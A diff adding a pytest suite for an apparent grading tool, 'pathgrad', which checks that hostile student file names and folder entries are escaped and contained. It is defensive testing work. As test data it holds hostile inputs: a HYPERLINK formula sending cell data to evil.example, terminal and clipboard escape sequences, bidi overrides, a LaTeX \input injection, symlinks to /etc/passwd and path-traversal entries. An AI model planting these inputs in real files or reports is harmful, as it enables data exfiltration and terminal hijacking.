@@ -1,0 +1,521 @@
+"""Hostile names and what a folder may reach (issue 11): the corpus of names and folders.
+
+A teacher grades files written by other people. Their names can carry
+terminal escapes, forged lines, bidirectional overrides, comment-ending line
+breaks, spreadsheet formulas and bytes that are not UTF-8; a folder can hold
+symbolic links out of it, FIFOs and folders named ``x.py``; an answers table
+can name files outside its folder. Each example is a test with its escaped
+text, one row per entry, and no side effect; hypothesis covers the classes.
+"""
+
+import csv
+import io
+import json
+import os
+import re
+import subprocess
+import sys
+import threading
+import unicodedata
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pathgrad.escaping import HIDDEN, csv_cell, json_for_html, json_visible, visible
+from pathgrad.grading import (
+    ROW_FIELDS,
+    _row,
+    check_answers_table,
+    grade_folder,
+    rows_to_csv,
+    rows_to_json,
+    rows_to_text,
+)
+
+ROOT = Path(__file__).resolve().parent.parent
+SEED_TEXT = (ROOT / "pathgrad" / "examples" / "seed.py").read_text()
+#: Every Unicode line break: a comment or a fence must survive each of them.
+LINE_BREAKS = ["\r", "\n", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+#: Names from the issue, with the text each shows as.
+HOSTILE_NAMES = {
+    '=HYPERLINK("http:evil.example?"&A1,"click").py': '=HYPERLINK("http:evil.example?"&A1,"click").py',
+    "\x1b]0;pwned\x07\x1b[2Jclear.py": "\\x1b]0;pwned\\x07\\x1b[2Jclear.py",
+    "\x1b]52;c;ZXZpbA==\x07clip.py": "\\x1b]52;c;ZXZpbA==\\x07clip.py",
+    "zed.py: w1: wrong\nbob.py: w1: right.py": "zed.py: w1: wrong\\nbob.py: w1: right.py",
+    "evil\u202egnp.py": "evil\\u202egnp.py",
+    "iso\u2066late\u2069.py": "iso\\u2066late\\u2069.py",
+    "tex\r\\input{secret}.py": "tex\\r\\input{secret}.py",
+}
+SECRET = "secret_leaf_4711"
+MARKER = "pathgrad_pwned.txt"
+#: A file that writes a marker when run as Python (it must not be, in a folder).
+WRITES_MARKER = f"x = 1.0\nopen({MARKER!r}, 'w').write('x')\nL = x * 2\n"
+
+
+def hidden(text):
+    return [c for c in text if unicodedata.category(c) in HIDDEN]
+
+
+def formula_start(cell):
+    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+
+
+NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+# -- the one helper ---------------------------------------------------------------------------
+@pytest.mark.parametrize("name, shown", HOSTILE_NAMES.items())
+def test_visible_escapes_each_example(name, shown):
+    assert visible(name) == shown
+
+
+@pytest.mark.parametrize("brk", LINE_BREAKS)
+def test_visible_leaves_one_line_for_every_line_break(brk):
+    assert len(visible(f"a{brk}b").splitlines()) == 1
+    assert hidden(visible(f"a{brk}b")) == []
+
+
+#: Text that mixes the characters hostile names are made of with ordinary ones.
+HOSTILE_TEXT = st.text(
+    st.one_of(
+        st.sampled_from(
+            [
+                "\x1b",
+                "\x07",
+                "\x9b",
+                "\x7f",
+                "\x00",
+                "\t",
+                "\u200b",
+                "\u202e",
+                "\u2067",
+                "\ufeff",
+                "\udcff",
+                "\udce9",
+                "\ud800",
+                "=",
+                "+",
+                "-",
+                "@",
+                " ",
+                "'",
+                '"',
+                ",",
+                "\\",
+                "<",
+                ">",
+                "&",
+                "%",
+                "#",
+                "`",
+                "é",
+                "∂",
+                "\U000e0041",
+            ]
+        ),
+        st.sampled_from([b for b in LINE_BREAKS if len(b) == 1]),
+        st.characters(),
+    ),
+    max_size=40,
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(HOSTILE_TEXT)
+def test_visible_shows_no_hidden_character_on_one_line(text):
+    shown = visible(text)
+    assert hidden(shown) == []
+    assert len(shown.splitlines()) <= 1
+    shown.encode("utf-8")  # never a lone surrogate
+    assert visible(shown) == shown  # escaping twice changes nothing more
+    if not hidden(text):
+        assert shown == text
+
+
+@settings(max_examples=200, deadline=None)
+@given(HOSTILE_TEXT)
+def test_csv_cell_never_starts_a_formula(text):
+    cell = csv_cell(text)
+    assert not formula_start(cell) or NUMBER.fullmatch(cell)
+    assert cell in (visible(text), "'" + visible(text))
+
+
+@pytest.mark.parametrize(
+    "cell, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-w2*x1 - w3*x2", "'-w2*x1 - w3*x2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("  =1", "'  =1"),
+        ("\t=1", "\\t=1"),
+        ("-7.0", "-7.0"),
+        ("-1.5e-05", "-1.5e-05"),
+        ("-inf", "'-inf"),
+        ("nan", "nan"),
+        ("w1", "w1"),
+    ],
+)
+def test_csv_cell_rule(cell, written):
+    assert csv_cell(cell) == written
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.recursive(
+        st.one_of(st.none(), st.integers(), HOSTILE_TEXT),
+        lambda inner: (
+            st.lists(inner, max_size=4) | st.dictionaries(HOSTILE_TEXT, inner, max_size=4)
+        ),
+        max_leaves=12,
+    )
+)
+def test_json_helpers_carry_the_data_unchanged(data):
+    text = json_visible(json.dumps(data, ensure_ascii=False, indent=2))
+    assert json.loads(text) == data
+    assert hidden(text.replace("\n", "")) == []
+    text.encode("utf-8")
+    in_html = json_for_html(text)
+    assert json.loads(in_html) == data
+    assert not set("<>&") & set(in_html)
+
+
+# -- reports: CSV, JSON, text --------------------------------------------------------------
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=6))
+def test_reports_keep_every_row_and_escape_it(triples):
+    rows = [_row(file, "w1", answer, "wrong", message) for file, answer, message in triples]
+    text = rows_to_text(rows)
+    assert len(text.split("\n")) == len(rows)
+    assert hidden(text.replace("\n", "")) == []
+    for line, (file, _, _) in zip(text.split("\n"), triples, strict=True):
+        assert line.startswith(visible(f"{file}: " if file else ""))
+    table = list(csv.reader(io.StringIO(rows_to_csv(rows))))
+    assert table[0] == list(ROW_FIELDS) and len(table) == len(rows) + 1
+    for record, (file, answer, _) in zip(table[1:], triples, strict=True):
+        assert record[0] == csv_cell(file) and record[2] == csv_cell(answer)
+        assert not any(formula_start(cell) and not NUMBER.fullmatch(cell) for cell in record)
+        assert hidden("".join(record)) == []
+    data = json.loads(rows_to_json(rows))["rows"]
+    assert [(r["file"], r["answer"], r["message"]) for r in data] == [
+        (file, answer, message) for file, answer, message in triples
+    ]
+
+
+# -- renderers: comments and fences --------------------------------------------------------
+@pytest.fixture(scope="module")
+def seed_explanation():
+    from pathgrad.explanation import explain
+
+    return explain("seed", wrt=["w1"])
+
+
+def renders(explanation, name):
+    """Every renderer that writes a comment or a fence, for a file called ``name``."""
+    from pathgrad.drawing import draw
+    from pathgrad.render import latex, markdown
+    from pathgrad.render import text as text_render
+
+    explanation.file = name
+    explanation.graph.graph["file"] = name
+    drawing = draw(explanation, wrt="w1")
+    return {
+        "latex": latex.render(explanation),
+        "markdown": markdown.render(explanation),
+        "dot": drawing.dot,
+        "mermaid": drawing.mermaid,
+        "text": text_render.render(explanation),
+    }
+
+
+COMMENTS = {"latex": "% pathgrad: ", "dot": "// pathgrad: ", "mermaid": "  %% pathgrad: "}
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    st.lists(
+        st.one_of(
+            st.sampled_from(LINE_BREAKS),
+            HOSTILE_TEXT,
+            st.sampled_from(["\\input{secret}", "```", "%%{init}%%", "}", "#"]),
+        ),
+        max_size=6,
+    ).map("".join)
+)
+def test_no_line_break_ends_a_comment_or_a_fence(seed_explanation, name):
+    plain, hostile = renders(seed_explanation, "a.py"), renders(seed_explanation, name + ".py")
+    for kind, out in hostile.items():
+        assert len(out.splitlines()) == len(plain[kind].splitlines()), kind
+        assert hidden(out.replace("\n", "")) == [], kind
+        if kind in COMMENTS:
+            comment = out.splitlines()[0] if kind != "mermaid" else out.splitlines()[1]
+            assert comment.startswith(COMMENTS[kind]) and visible(name) in comment
+    fences = [line for line in hostile["markdown"].splitlines() if line.startswith("```")]
+    assert fences == ["```mermaid", "```"]
+
+
+@pytest.mark.parametrize("brk", LINE_BREAKS)
+def test_latex_comment_holds_a_forged_input(seed_explanation, brk):
+    out = renders(seed_explanation, f"tex{brk}\\input{{secret}}.py")["latex"]
+    assert out.splitlines()[0] == f"% pathgrad: L = 1 - x5 (tex{visible(brk)}\\input{{secret}}.py)"
+    assert [line for line in out.splitlines() if "secret" in line] == [out.splitlines()[0]]
+
+
+def test_step_player_frames_hold_a_script_comment(tmp_path, monkeypatch):
+    from pathgrad.drawing import steps
+    from pathgrad.explanation import explain
+
+    monkeypatch.chdir(tmp_path)
+    comment = "# <!--<script> & </script>"
+    Path("player.py").write_text(f"x = 2.0\ny = x * 3  {comment}\nL = y + x\n")
+    page = steps(explain("player.py")).html
+    opening = '<script type="application/json" class="frames">'
+    start = page.index(opening) + len(opening)
+    data = page[start : page.index("</script>", start)]
+    assert not set("<>&") & set(data)
+    frames = json.loads(data)
+    assert any(comment in frame["h"] for frame in frames)
+    assert page.count("<script") == 2 and "<!--" not in page
+
+
+# -- folders ---------------------------------------------------------------------------------
+def run_without_blocking(function, *args, **kwargs):
+    """Run ``function``; a FIFO that is read would block it for ever, so a hang fails."""
+    result = {}
+    thread = threading.Thread(
+        target=lambda: result.update(value=function(*args, **kwargs)), daemon=True
+    )
+    thread.start()
+    thread.join(timeout=600)
+    assert not thread.is_alive(), "blocked (a FIFO was read?)"
+    return result["value"]
+
+
+@pytest.fixture(scope="module")
+def hostile_folder(tmp_path_factory):
+    """A class folder with every kind of hostile entry, and a secret outside it."""
+    base = tmp_path_factory.mktemp("hostile")
+    secret = base / "secret"
+    secret.mkdir()
+    (secret / "solution.py").write_text(f"{SECRET} = 3.0\nL = {SECRET} * 2\n")
+    folder = base / "class"
+    folder.mkdir()
+    (folder / "alice.py").write_text(SEED_TEXT)
+    for name in HOSTILE_NAMES:
+        (folder / name).write_text(SEED_TEXT)
+    with open(os.path.join(os.fsencode(folder), b"caf\xe9.py"), "w") as handle:  # not UTF-8
+        handle.write(SEED_TEXT)
+    (folder / "carol.py").write_text(WRITES_MARKER)
+    (folder / "passwd_link.py").symlink_to("/etc/passwd")
+    (folder / "solution_link.py").symlink_to(secret / "solution.py")
+    (folder / "dangling.py").symlink_to(base / "nowhere.py")
+    os.mkfifo(folder / "pipe.py")
+    (folder / "x.py").mkdir()
+    (folder / "notes.txt").write_text("not a student file")
+    (folder / "answers.csv").write_text(
+        "file,leaf,answer\n"
+        'alice.py,w1,=HYPERLINK("http://evil";"x")\n'
+        f"../secret/solution.py,w1,2\n"
+        f"{secret / 'solution.py'},w1,2\n"
+        f"solution_link.py,w1,2\n"
+        "nobody.py,w1,1\n"
+    )
+    return folder
+
+
+ENTRY_VERDICTS = {
+    "alice.py": "right",
+    "caf\udce9.py": "right",
+    "carol.py": "error",
+    "passwd_link.py": "error",
+    "solution_link.py": "error",
+    "dangling.py": "error",
+    "pipe.py": "error",
+    "x.py": "error",
+    **dict.fromkeys(HOSTILE_NAMES, "right"),
+}
+ENTRY_MESSAGES = {
+    "passwd_link.py": "passwd_link.py: a symbolic link (not followed; copy the file itself "
+    "into the folder)",
+    "dangling.py": "dangling.py: a symbolic link (not followed; copy the file itself into the "
+    "folder)",
+    "pipe.py": "pipe.py: a named pipe (FIFO), not a file; not read",
+    "x.py": "x.py: a folder, not a file",
+    "carol.py": "carol.py:2: not allowed in --safe mode: call to open()",
+}
+
+
+@pytest.fixture(scope="module")
+def graded(hostile_folder, tmp_path_factory):
+    elsewhere = tmp_path_factory.mktemp("cwd")
+    cwd = os.getcwd()
+    os.chdir(elsewhere)
+    try:
+        rows = run_without_blocking(grade_folder, hostile_folder, "w1", "-w2*x1 - w3*x2", jobs=2)
+    finally:
+        os.chdir(cwd)
+    for place in (elsewhere, hostile_folder, Path(cwd)):
+        assert not (place / MARKER).exists()
+    return rows
+
+
+def test_every_entry_gets_one_row(graded):
+    assert {r["file"]: r["verdict"] for r in graded} == ENTRY_VERDICTS
+    assert len(graded) == len(ENTRY_VERDICTS)
+    assert [r["file"] for r in graded] == sorted(ENTRY_VERDICTS)
+    for row in graded:
+        if row["file"] in ENTRY_MESSAGES:
+            assert row["message"] == ENTRY_MESSAGES[row["file"]]
+
+
+def test_nothing_outside_the_folder_is_read(graded):
+    everything = json.dumps(graded) + rows_to_text(graded) + rows_to_csv(graded)
+    assert SECRET not in everything and "root:" not in everything
+
+
+def test_text_report_escapes_every_name(graded):
+    lines = rows_to_text(graded).split("\n")
+    assert len(lines) == len(graded)
+    shown = {visible(r["file"]) for r in graded}
+    for line in lines:
+        assert hidden(line) == [] and any(line.startswith(name + ": w1: ") for name in shown)
+    assert any(
+        line.startswith("zed.py: w1: wrong\\nbob.py: w1: right.py: w1: right: dL/dw1")
+        for line in lines
+    )
+    assert "caf\\xe9.py: w1: right: dL/dw1 = -w2*x1 - w3*x2, the sum of 2 paths" in lines
+
+
+def test_csv_report_neutralises_formulas(graded):
+    table = list(csv.reader(io.StringIO(rows_to_csv(graded))))
+    files = [record[0] for record in table[1:]]
+    assert '\'=HYPERLINK("http:evil.example?"&A1,"click").py' in files
+    for record in table[1:]:
+        assert not any(formula_start(c) and not NUMBER.fullmatch(c) for c in record), record
+    right = next(r for r in table[1:] if r[0] == "alice.py")
+    assert right[2:6] == ["'-w2*x1 - w3*x2", "right", "'-w2*x1 - w3*x2", "-8.0"]
+
+
+def test_json_report_carries_names_unchanged(graded):
+    data = json.loads(rows_to_json(graded))["rows"]
+    assert [r["file"] for r in data] == [r["file"] for r in graded]
+    assert "caf\udce9.py" in [r["file"] for r in data]  # the byte is kept (surrogateescape)
+
+
+def test_folder_answers_table_may_not_reach_outside(hostile_folder):
+    rows = run_without_blocking(
+        grade_folder, hostile_folder, "w1", Path(hostile_folder / "answers.csv"), jobs=2
+    )
+    by_file = {}
+    for row in rows:
+        by_file.setdefault(row["file"], []).append(row)
+    assert SECRET not in json.dumps(rows)
+    outside = "refused: an answers table may only name files in the folder, not "
+    assert by_file["../secret/solution.py"][0]["message"] == (
+        f"../secret/solution.py: {outside}a path with '..'"
+    )
+    absolute = str(hostile_folder.parent / "secret" / "solution.py")
+    assert by_file[absolute][0]["message"] == f"{absolute}: {outside}an absolute path"
+    assert by_file["solution_link.py"][0]["verdict"] == "error"
+    assert by_file["nobody.py"][0]["message"] == "nobody.py: no such file in the folder"
+    assert by_file["alice.py"][0]["verdict"] == "invalid"  # the formula is read, never run
+    assert {f for f in by_file} >= set(ENTRY_VERDICTS)
+
+
+def test_answers_table_refuses_paths_outside_and_links(tmp_path):
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "solution.py").write_text(f"{SECRET} = 3.0\nL = {SECRET} * 2\n")
+    table_folder = tmp_path / "marks"
+    table_folder.mkdir()
+    (table_folder / "seed.py").write_text(SEED_TEXT)
+    (table_folder / "link.py").symlink_to(secret / "solution.py")
+    (table_folder / "linked").symlink_to(secret)
+    os.mkfifo(table_folder / "pipe.py")
+    (table_folder / "sub").mkdir()
+    (table_folder / "sub" / "seed.py").write_text(SEED_TEXT)
+    table = table_folder / "answers.csv"
+    table.write_text(
+        "file,leaf,answer\n"
+        "seed.py,w1,-w2*x1 - w3*x2\n"
+        f"../secret/solution.py,w1,2\n"
+        f"{secret / 'solution.py'},w1,2\n"
+        f"link.py,w1,2\n"
+        f"linked/solution.py,w1,2\n"
+        f"sub/../../secret/solution.py,w1,2\n"
+        "pipe.py,w1,1\n"
+        "sub/seed.py,w1,-w2*x1 - w3*x2\n"
+    )
+    rows = run_without_blocking(check_answers_table, table)
+    assert [r["verdict"] for r in rows] == ["right", *["error"] * 6, "right"]
+    assert [r["message"].split(": ", 1)[1] for r in rows[1:7]] == [
+        "refused: an answers table may only name files in its own folder, not a path with '..'",
+        "refused: an answers table may only name files in its own folder, not an absolute path",
+        "refused: a symbolic link (not followed; copy the file itself into the folder)",
+        "refused: a symbolic link (not followed; copy the file itself into the folder)",
+        "refused: an answers table may only name files in its own folder, not a path with '..'",
+        "refused: a named pipe (FIFO), not a file; not read",
+    ]
+    assert SECRET not in json.dumps(rows)
+
+
+# -- the command line, under any locale ------------------------------------------------------
+@pytest.mark.parametrize(
+    "locale", [{"LC_ALL": "C"}, {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}]
+)
+def test_cli_keeps_every_row_under_any_locale(tmp_path, locale):
+    folder = os.fsencode(tmp_path)
+    for name in (
+        b"caf\xe9.py",
+        "d\u00e9j\u00e0.py".encode(),
+        "evil\u202egnp.py".encode(),
+        b"ok.py",
+    ):
+        with open(os.path.join(folder, name), "w") as handle:
+            handle.write(SEED_TEXT)
+    env = {**os.environ, "PYTHONPATH": str(ROOT), **locale}
+    env.pop("PYTHONIOENCODING", None)
+    for fmt in ("text", "csv", "json"):
+        done = subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "pathgrad",
+                "check",
+                str(tmp_path),
+                "--wrt",
+                "w1",
+                "--answer",
+                "-w2*x1 - w3*x2",
+                "--jobs",
+                "2",
+                "--format",
+                fmt,
+            ],
+            capture_output=True,
+            env=env,
+            timeout=600,
+            check=False,
+        )
+        assert done.returncode == 0, done.stderr
+        out = done.stdout.decode("ascii" if "PYTHONUTF8" in locale else "utf-8")
+        if fmt == "text":
+            assert len(out.splitlines()) == 4 and "caf\\xe9.py: w1: right" in out
+        elif fmt == "csv":
+            assert len(list(csv.reader(io.StringIO(out)))) == 5
+        else:
+            assert len(json.loads(out)["rows"]) == 4
+
+
+def test_cli_error_names_the_file_escaped(tmp_path, monkeypatch, capsys):
+    from pathgrad.cli import main
+
+    monkeypatch.chdir(tmp_path)
+    name = "bad\x1b[2J\u202e\n.py"
+    Path(name).write_text("x = 1\nL = x +* 2\n")
+    for extra in ([], ["--safe"]):
+        assert main(["explain", *extra, name]) == 2
+        err = capsys.readouterr().err
+        assert err == "pathgrad: bad\\x1b[2J\\u202e\\n.py:2: syntax error: invalid syntax\n"
